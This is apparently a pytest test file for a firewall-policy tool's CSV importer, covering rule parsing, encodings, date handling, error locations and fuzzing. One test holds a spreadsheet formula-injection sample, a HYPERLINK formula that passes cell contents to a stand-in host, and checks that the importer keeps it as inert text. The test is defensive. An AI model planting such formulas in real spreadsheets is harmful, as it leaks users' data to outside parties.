from __future__ import annotations

from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sekisho.errors import RequestError
from sekisho.inventory.files import parse_inventory
from sekisho.policy.files import parse_policy
from sekisho.policy.importer import Imported, import_csv, parse_csv
from sekisho.policy.proposals import render

SITES = b"""
sites:
  jp-hq: {name: HQ, country: JP, prefixes: [10.1.0.0/16, "2001:db8:1::/48"]}
  th-plant: {name: Plant, country: TH, prefixes: [10.40.0.0/16]}
groups:
  jp-hq/edi: [10.1.20.0/28]
  th-plant/edi: [10.40.2.10]
  th-plant/mes: [10.40.3.0/28]
zones: {vendor: [198.18.7.0/24]}
"""
ASSETS = b"address,hostname,site,groups\n10.1.0.5,files,jp-hq,\n"
INVENTORY = parse_inventory({"sites.yaml": SITES, "assets.csv": ASSETS})


def read(text: str | bytes) -> Imported:
    content = text.encode() if isinstance(text, str) else text
    found = parse_csv("register.csv", content, INVENTORY)
    policy = parse_policy({"p.yaml": render(found.proposals).encode()}, INVENTORY)
    assert [replace(r, file="", line=0, column=0) for r in policy.rules] == [
        p.rule for p in found.proposals
    ]
    return found


def rules(text: str | bytes) -> list[tuple[str, str]]:
    found = read(text)
    assert found.errors == ()
    return [(p.rule.id, p.rule.allow) for p in found.proposals]


def places(text: str | bytes) -> list[tuple[int, int, str]]:
    return [(p.line, p.column, p.code) for p in read(text).problems]


def test_a_register_as_people_keep_it() -> None:
    found = read(
        "ID;Source;Destination;Service;Owner;Ticket;Reason;From;Expires\n"
        'FW 12;"th-plant/edi\n10.40.3.0/28";files;"443/tcp, TCP 8443";logistics;CHG-7;Täglich;'
        "1.4.2019;31.3.2027\n"
    )
    (proposal,) = found.proposals
    rule = proposal.rule
    assert rule.allow == "th-plant/edi, 10.40.3.0/28 -> asset:files : tcp/443, tcp/8443"
    assert (rule.id, rule.owner, rule.ticket, rule.why) == ("FW-12", "logistics", "CHG-7", "Täglich")
    assert rule.validity.begin == datetime(2019, 4, 1, tzinfo=UTC)
    assert rule.validity.end == datetime(2027, 4, 1, tzinfo=UTC)
    assert (rule.state, proposal.witnesses) == ("proposed", ("register.csv:2",))
    assert proposal.notes == ("its id was 'FW 12'",)


def test_what_firewalls_write() -> None:
    text = (
        "Name,Source Address,Destination Address,Protocol,Destination Port,Action\n"
        "a,10.40.2.0 255.255.255.0,10.1.20.0/255.255.255.240,tcp,445,permit\n"
        "b,10.40.2.4-10.40.2.7,10.1.0.5,6,8000-8010,ACCEPT\n"
        "c,any,jp-hq,udp,any,allow\n"
        "d,vendor,mes,TCP/UDP,53,allow\n"
        "e,any,any,any,any,deny\n"
    )
    assert rules(text) == [
        ("a", "10.40.2.0/24 -> 10.1.20.0/28 : tcp/445"),
        ("b", "10.40.2.4/30 -> 10.1.0.5 : tcp/8000-8010"),
        ("c", "* -> jp-hq/* : udp"),
        ("d", "zone:vendor -> th-plant/mes : tcp/53, udp/53"),
    ]
    assert [(p.line, p.code, p.level) for p in read(text).problems] == [(6, "csv/not-allow", "warning")]


def test_wide_rows_are_kept_and_noted() -> None:
    (proposal,) = read("source,destination,service\nany,10.1.0.0/16,any\n").proposals
    assert proposal.rule.id == "PROPOSED-ANY-JP-HQ-ANY"
    assert proposal.notes == ("wide source: *", "wide destination: 10.1.0.0/16", "wide services: any")


def test_every_problem_at_once_with_its_place() -> None:
    text = (
        "source,destination,service,from,expires\n"
        "10.40.2.0/23,nowhere,tcp/99999,,\n"
        'th-plant,"files, jp-hq/eid",445,2024-02-30,03/04/2025\n'
        "edi,jp-hq,smb,2025-01-01,2024-01-01\n"
        ",jp-hq,,,\n"
    )
    assert places(text) == [
        (2, 14, "rule/selector"),
        (2, 26, "service/ports"),
        (3, 24, "rule/unknown-group"),
        (3, 29, "service/bare-number"),
        (3, 33, "time/none"),
        (3, 44, "time/ambiguous"),
        (4, 1, "rule/ambiguous"),
        (4, 26, "time/backwards"),
        (5, 1, "csv/missing"),
        (5, 8, "csv/missing"),
    ]
    assert read(text).proposals == ()


def test_host_bits_hide_a_slip_and_good_rows_survive() -> None:
    found = read("source,destination,service\n10.40.2.7/24,jp-hq,ssh\nth-plant,jp-hq,ssh\n")
    assert [(p.line, p.column, p.code) for p in found.errors] == [(2, 1, "prefix/host-bits")]
    assert [p.rule.allow for p in found.proposals] == ["th-plant/* -> jp-hq/* : ssh"]


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "cp1252", "utf-16"])
@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_encodings_and_separators(encoding: str, separator: str) -> None:
    row = ["th-plant", "jp-hq", "ssh", "Überweisungen für Café"]
    text = (
        separator.join(["source", "destination", "service", "comment"]) + "\r\n" + separator.join(row)
    )
    found = read(text.encode(encoding))
    assert [p.rule.why for p in found.proposals] == ["Überweisungen für Café"]


def test_formulas_are_text() -> None:
    cell = '=HYPERLINK(""http://x/?""&A1)'
    found = read(f'id,source,destination,service,why\n=1+1,th-plant,jp-hq,ssh,"{cell}"\n')
    (proposal,) = found.proposals
    assert proposal.rule.why == cell.replace('""', '"')
    assert proposal.rule.id == "1-1"
    assert "its why looks like a formula; it was taken as text" in proposal.notes


def test_ids_in_use_and_twice() -> None:
    text = "id,source,destination,service\nA,th-plant,jp-hq,ssh\na,th-plant,jp-hq,rdp\n"
    found = parse_csv("r.csv", text.encode(), INVENTORY, taken=["A"])
    assert [p.rule.id for p in found.proposals] == ["A-2", "a-3"]


def test_whole_sentences_and_names_of_the_workspace() -> None:
    own = (
        parse_policy(
            {"p": b"services: {mes: [tcp/9000-9001]}\nconnections: [{id: A, allow: '* -> * : mes'}]"},
            INVENTORY,
        )
        .rules[0]
        .services
    )
    text = "id;allow\nA;th-plant/edi -> jp-hq/edi : mes, icmp\nB;th-plant/edi <- jp-hq/edi : mes\n"
    found = parse_csv("r.csv", text.encode(), INVENTORY, own={"mes": own})
    assert [p.rule.allow for p in found.proposals] == ["th-plant/edi -> jp-hq/edi : mes, icmp"]
    assert [(p.line, p.column, p.code) for p in found.problems] == [(3, 16, "rule/arrow")]


def test_files_that_are_no_sheet(tmp_path: Path) -> None:
    assert places("") == [(0, 0, "csv/empty")]
    assert places(b"PK\x03\x04\x00\x00xl/workbook.xml") == [(1, 5, "file/encoding")]
    assert places("owner,ticket\na,b\n") == [(1, 1, "csv/missing-column")]
    assert places("source,src,destination,service\n") == [(1, 8, "csv/column-twice")]
    with pytest.raises(RequestError):
        import_csv(tmp_path / "none.csv", INVENTORY)


def test_problems_are_bounded() -> None:
    found = read("source,destination,service\n" + "x,y,z\n" * 2_000)
    assert len(found.problems) == 1_001


PARTS = [
    "th-plant",
    "jp-hq/edi",
    "10.1.0.0/16",
    "10.40.2.1-10.40.2.9",
    "any",
    "tcp",
    "443",
    "6",
    "smb",
    "\u2013",
]
PARTS += [
    '"',
    ";",
    ",",
    "\t",
    "\n",
    "\r\n",
    " ",
    "=1",
    "->",
    ":",
    "2024-01-01",
    "\0",
    "\u2028",
    "é",
    "255.255.255.0",
]
soup = st.lists(st.sampled_from(PARTS), max_size=40).map("".join)


@settings(max_examples=150, deadline=None)
@given(
    st.sampled_from(
        ["source,destination,service,from,why\n", "source;destination;protocol;port\n", ""]
    ),
    soup,
)
def test_whatever_is_in_the_file(header: str, body: str) -> None:
    found = read(header + body)
    lines = (header + body).replace("\r\n", "\n").replace("\r", "\n").split("\n")
    for problem in found.problems:
        assert 0 <= problem.line <= len(lines)
        assert problem.column <= len(lines[problem.line - 1]) + 1
